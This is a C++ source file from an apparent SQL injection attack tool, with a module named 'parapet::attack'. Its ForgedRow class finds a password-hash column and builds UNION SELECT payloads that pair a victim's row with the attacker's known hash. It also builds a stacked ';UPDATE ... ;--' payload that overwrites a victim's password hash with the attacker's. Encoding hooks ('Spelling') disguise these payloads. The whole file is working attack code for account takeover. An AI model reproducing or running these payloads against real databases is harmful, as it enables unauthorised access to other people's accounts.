#include "core/attack/forged_row.h"

#include <algorithm>

#include "core/attack/options.h"
#include "core/attack/spelling.h"
#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostValues = 5;

bool holds_password(std::string const& column) {
    std::string const name = ascii::lower(column);
    return name.find("pass") != std::string::npos || name.find("hash") != std::string::npos;
}

std::string join(std::vector<std::string> const& items) {
    std::string text;
    for (std::string const& item : items) text += (text.empty() ? "" : ",") + item;
    return text;
}

}  // namespace

ForgedRow::ForgedRow(Target const& target, std::string_view username_column,
                     std::string_view victim)
    : username_(username_column), victim_(victim), attacker_(target.surface().attacker.username) {
    for (Column const& each : wanted_columns(target.surface())) {
        if (!holds_password(each.column) || !table_.empty()) continue;
        table_ = each.table;
        hash_ = each.column;
    }
}

// All rows of count columns that begin with row: of each kind of column at least the hash, once.
void ForgedRow::extend(std::vector<Columns>& rows, Columns const& row, std::size_t count) {
    auto const uses = [&](char const* column) {
        return std::count(row.begin(), row.end(), column) > 0;
    };
    if (row.size() == count) {
        bool const whole = uses("h") && (uses("v.id") || uses("u"));
        if (whole && (count < 3 || (uses("v.id") && uses("u")))) rows.push_back(row);
        return;
    }
    for (char const* next : {"v.id", "u", "h"}) {
        bool const once = next[0] != 'u';  // what is left over is a name
        if (once && uses(next)) continue;
        Columns longer = row;
        longer.emplace_back(next);
        extend(rows, longer, count);
    }
}

std::vector<ForgedRow::Columns> ForgedRow::rows() const {
    std::vector<Columns> all;
    for (std::size_t count : {std::size_t{3}, std::size_t{2}, std::size_t{4}, kMostValues})
        extend(all, {}, count);
    for (Columns& row : all) {
        for (std::string& column : row) {
            if (column == "h") column = "a." + hash_;
            if (column == "u") column = "v." + username_;
        }
    }
    return all;
}

std::vector<std::string> ForgedRow::texts(Break const& with, Spelling const& spelling) const {
    std::vector<std::string> texts;
    if (table_.empty()) return texts;
    // The condition on the names goes into sub-queries, so that a tail may add its own WHERE.
    auto const one = [&](std::string const& name) {
        return "(SELECT id," + username_ + "," + hash_ + " FROM " + table_ + " WHERE " + username_ +
               "=" + quoted(name) + ")";
    };
    std::string const from = " FROM " + one(attacker_) + " a JOIN " + one(victim_) + " v";
    for (Columns const& row : rows())
        texts.push_back(with.open + spelling.write(" UNION SELECT " + join(row) + from) +
                        with.tail);
    return texts;
}

std::optional<std::string> ForgedRow::overwriting(Break const& with,
                                                  Spelling const& spelling) const {
    if (table_.empty()) return std::nullopt;
    std::string const sql = ";UPDATE " + table_ + " SET " + hash_ + "=(SELECT " + hash_ + " FROM " +
                            table_ + " WHERE " + username_ + "=" + quoted(attacker_) + ") WHERE " +
                            username_ + "=" + quoted(victim_);
    return with.open + spelling.write(sql) + ";--";
}

}  // namespace parapet::attack
